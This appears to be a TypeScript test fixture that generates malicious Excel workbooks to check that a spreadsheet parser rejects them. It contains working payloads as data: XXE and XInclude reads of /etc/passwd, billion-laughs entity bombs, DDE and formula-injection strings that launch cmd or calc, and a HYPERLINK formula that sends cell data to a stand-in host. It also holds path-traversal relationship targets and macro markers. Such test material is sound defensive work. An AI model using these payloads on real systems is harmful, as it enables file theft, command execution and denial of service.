// Whole archives whose sheets are hostile: entities, depth, sizes, cycles, formulas that reach out, macros.
import { Buffer } from "node:buffer";
import { type Part, textRow, workbookParts, zipOf } from "../workbook/archives.ts";
import { type Hostile, hostile, times } from "./hostile.ts";

const sheet = (sheetData: string, after = "") => zipOf(workbookParts(sheetData, after));
const raw = (name: string, data: string | Uint8Array, ...more: readonly Part[]) =>
  zipOf([
    ...workbookParts(textRow(1, "甲")).map((part) => (part.name === name ? { ...part, data } : part)),
    ...more,
  ]);
const sheetXml = "xl/worksheets/sheet1.xml";
const cell = (value: string) => `<row r="1"><c r="A1">${value}</c></row>`;
const formula = (text: string) => cell(`<f>${text}</f><v>1</v>`);

const read = "LEDGER_NOT_FOUND";
const either = [read, "WORKBOOK_DAMAGED", "WORKBOOK_TOO_COMPLEX", "WORKBOOK_TOO_SLOW"];

const entities = (): readonly (readonly [string, string | Uint8Array])[] => {
  const levels = times(12, (n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join("");
  const use = (types: string, text: string) =>
    `<?xml version="1.0"?><!DOCTYPE w [${types}]><worksheet><sheetData><row><c t="inlineStr"><is><t>${text}</t></is></c></row></sheetData></worksheet>`;
  return [
    ["a billion laughs", use(`<!ENTITY e0 "ha">${levels}`, "&e12;")],
    ["one long entity a thousand times", use(`<!ENTITY a "${"a".repeat(50_000)}">`, "&a;".repeat(1000))],
    ["an entity of itself", use(`<!ENTITY a "&a;">`, "&a;")],
    ["two entities of each other", use(`<!ENTITY a "&b;"><!ENTITY b "&a;">`, "&a;")],
    ["a file as an entity", use(`<!ENTITY a SYSTEM "file:///etc/passwd">`, "&a;")],
    ["an address as an entity", use(`<!ENTITY a SYSTEM "http://127.0.0.1:1/x">`, "&a;")],
    ["a parameter entity", use(`<!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;`, "x")],
    [
      "a foreign document type",
      `<?xml version="1.0"?><!DOCTYPE w SYSTEM "http://127.0.0.1:1/x.dtd"><worksheet/>`,
    ],
    ["a million signs as numbers", use("", "&#38;".repeat(200_000))],
    ["a sign beyond all signs", use("", "&#x110000;&#0;&#xD800;")],
    [
      "an inclusion",
      `<worksheet xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></worksheet>`,
    ],
    ["UTF-16", Buffer.from(`\ufeff<worksheet><sheetData/></worksheet>`, "utf16le")],
    ["UTF-7 by its word", `<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-`],
    ["bytes that are no text", Buffer.from("ff00fe00c0afedbfbf3c3c3e3e".repeat(50), "hex")],
  ];
};

const shapes: readonly (readonly [string, string])[] = [
  ["a hundred thousand elements deep", "<a>".repeat(100_000)],
  ["deep and closed again", `${"<a>".repeat(50_000)}${"</a>".repeat(50_000)}`],
  ["a name of a megabyte", `<${"a".repeat(1_000_000)}/>`],
  ["a value of a megabyte", `<row r="${"9".repeat(1_000_000)}"/>`],
  ["a hundred thousand attributes", `<row ${times(100_000, (n) => `a${n}="1"`).join(" ")}/>`],
  ["the same attribute ten thousand times", `<row ${`r="1" `.repeat(10_000)}/>`],
  ["a comment without an end", `<!-- ${"-".repeat(100_000)}`],
  ["text in brackets without an end", `<![CDATA[${"]".repeat(100_000)}`],
  ["an instruction without an end", `<?${"x".repeat(100_000)}`],
  ["less-thans alone", "<".repeat(300_000)],
  ["greater-thans alone", ">".repeat(300_000)],
  ["ands alone", `<row><c t="inlineStr"><is><t>${"&".repeat(300_000)}</t></is></c></row>`],
  ["quotes that never match", `<row r="`.repeat(20_000)],
  ["closed before it is opened", "</sheetData></worksheet>".repeat(1000)],
];

const sizes: readonly (readonly [string, string, string])[] = [
  [
    "a dimension of everything",
    `<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`,
    `<dimension ref="A1:XFD1048576"/>`,
  ],
  ["a row beyond all rows", `<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>`, ""],
  ["a row below none", `<row r="-1"><c r="A-1"><v>1</v></c></row>`, ""],
  ["a column beyond all columns", `<row r="1"><c r="ZZZZZZZZZZ1"><v>1</v></c></row>`, ""],
  ["a million columns", `<row r="1">${times(1_000_000, (n) => `<c><v>${n}</v></c>`).join("")}</row>`, ""],
  ["half a million empty rows", "<row/>".repeat(500_000), ""],
  [
    "the corners of a large sheet",
    times(200, (n) => `<row r="${n * 5000 + 1}"><c r="XFD${n * 5000 + 1}"><v>1</v></c></row>`).join(""),
    "",
  ],
  ["rows backwards", times(5000, (n) => `<row r="${5000 - n}"><c><v>1</v></c></row>`).join(""), ""],
  ["one row ten thousand times", `<row r="1"><c r="A1"><v>1</v></c></row>`.repeat(10_000), ""],
  ["a merge of everything", textRow(1, "甲"), `<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`],
  [
    "merges by the ten thousand",
    textRow(1, "甲"),
    `<mergeCells>${`<mergeCell ref="A1:ZZ100"/>`.repeat(10_000)}</mergeCells>`,
  ],
  [
    "merges upside down",
    textRow(1, "甲"),
    `<mergeCells>${`<mergeCell ref="ZZ99:A1"/>`.repeat(100)}</mergeCells>`,
  ],
  [
    "merges of nowhere",
    textRow(1, "甲"),
    `<mergeCells><mergeCell ref=""/><mergeCell ref="x:y"/><mergeCell/></mergeCells>`,
  ],
  ["a text of two megabytes", textRow(1, "甲".repeat(700_000)), ""],
  ["a number without end", cell(`<v>${"9".repeat(100_000)}</v>`), ""],
  ["numbers that are none", cell("<v>1e999</v>") + cell("<v>NaN</v>") + cell("<v>-Infinity</v>"), ""],
  ["days that are none", `<row r="1"><c r="A1" t="d"><v>99999-99-99T99:99</v></c></row>`, ""],
  ["a kind of cell that is none", `<row r="1"><c r="A1" t="${"x".repeat(1000)}"><v>1</v></c></row>`, ""],
  ["a text that is not there", `<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>`, ""],
  ["a text before the first", `<row r="1"><c r="A1" t="s"><v>-1</v></c></row>`, ""],
  ["a style that is not there", `<row r="1"><c r="A1" s="4294967295"><v>1</v></c></row>`, ""],
  ["names of a prototype", `<row r="__proto__"><c r="constructor1" t="toString"><v>1</v></c></row>`, ""],
  [
    "a hundred thousand links",
    textRow(1, "甲"),
    `<hyperlinks>${`<hyperlink ref="A1" r:id="rId1"/>`.repeat(100_000)}</hyperlinks>`,
  ],
  [
    "rules by the hundred thousand",
    textRow(1, "甲"),
    `<dataValidations>${`<dataValidation sqref="A1:XFD1048576"/>`.repeat(100_000)}</dataValidations>`,
  ],
];

const formulas = [
  "cmd|'/C calc'!A0",
  "DDE(&quot;cmd&quot;,&quot;/C calc&quot;,&quot;x&quot;)",
  "MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe'!A1",
  "HYPERLINK(&quot;http://x.example/?&quot;&amp;A1)",
  "WEBSERVICE(&quot;http://127.0.0.1:1/&quot;)",
  "IMPORTXML(&quot;http://x.example&quot;,&quot;//a&quot;)",
  "[1]Sheet1!A1",
  "'file:///etc/[passwd]x'!A1",
  "A1",
  "REPT(&quot;a&quot;,1E9)",
  "EXEC(&quot;calc&quot;)",
  "(".repeat(50_000),
];

const relation = (type: string, target: string, mode = "") =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;
const bookRels = "xl/_rels/workbook.xml.rels";

const relations = (): Hostile[] => [
  ...[
    "workbook.xml",
    "../workbook.xml",
    "../../../../etc/passwd",
    "/etc/passwd",
    "http://127.0.0.1:1/x.xml",
    "",
    "worksheets/none.xml",
    "#",
    "\\\\host\\x",
  ].map((target) =>
    hostile(
      `a sheet at “${target}”`,
      raw(bookRels, relation("worksheet", target)),
      read,
      "WORKBOOK_DAMAGED",
      "NOT_A_WORKBOOK",
    ),
  ),
  hostile(
    "a workbook at itself",
    raw("_rels/.rels", relation("officeDocument", "_rels/.rels")),
    read,
    "WORKBOOK_DAMAGED",
  ),
  hostile(
    "a workbook elsewhere",
    raw("_rels/.rels", relation("officeDocument", "http://127.0.0.1:1/", `TargetMode="External"`)),
    read,
    "WORKBOOK_DAMAGED",
  ),
];

const parts = (): Hostile[] => [
  hostile(
    "texts that say they are a billion",
    raw("none", "", {
      name: "xl/sharedStrings.xml",
      data: `<sst count="1000000000" uniqueCount="1000000000"><si><t>x</t></si></sst>`,
    }),
    read,
  ),
  hostile(
    "styles that say they are a billion",
    raw("none", "", {
      name: "xl/styles.xml",
      data: `<styleSheet><cellXfs count="1000000000"><xf numFmtId="999999999"/></cellXfs></styleSheet>`,
    }),
    read,
  ),
  hostile(
    "a hundred thousand styles",
    raw("none", "", {
      name: "xl/styles.xml",
      data: `<styleSheet><cellXfs>${"<xf/>".repeat(100_000)}</cellXfs></styleSheet>`,
    }),
    read,
  ),
  hostile(
    "a workbook with macros",
    raw("none", "", { name: "xl/vbaProject.bin", data: Buffer.from("d0cf11e0a1b11ae1", "hex") }),
    read,
  ),
  hostile(
    "links to other workbooks",
    raw("none", "", {
      name: "xl/externalLinks/externalLink1.xml",
      data: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
    }),
    read,
  ),
  hostile(
    "a query of the net",
    raw("none", "", {
      name: "xl/connections.xml",
      data: `<connections><connection><webPr url="http://127.0.0.1:1/"/></connection></connections>`,
    }),
    read,
  ),
  hostile(
    "a thousand sheets of one name",
    raw(
      "xl/workbook.xml",
      `<workbook><sheets>${`<sheet name="表" sheetId="1" r:id="rId1"/>`.repeat(1000)}</sheets></workbook>`,
    ),
    ...either,
  ),
  hostile("a workbook of no sheets", raw("xl/workbook.xml", "<workbook><sheets/></workbook>"), ...either),
  hostile("a workbook that is no XML", raw("xl/workbook.xml", Buffer.alloc(5000, 7)), ...either),
  hostile("a list of types that is no XML", raw("[Content_Types].xml", "<<<<"), ...either),
];

export const hostileSheets = (): Hostile[] => [
  ...entities().map(([name, data]) => hostile(name, raw(sheetXml, data), ...either)),
  ...shapes.map(([name, data]) => hostile(name, sheet(data), ...either)),
  ...sizes.map(([name, data, after]) => hostile(name, sheet(data, after), ...either)),
  ...formulas.map((text, n) => hostile(`formula ${n}`, sheet(formula(text)), ...either)),
  ...relations(),
  ...parts(),
];
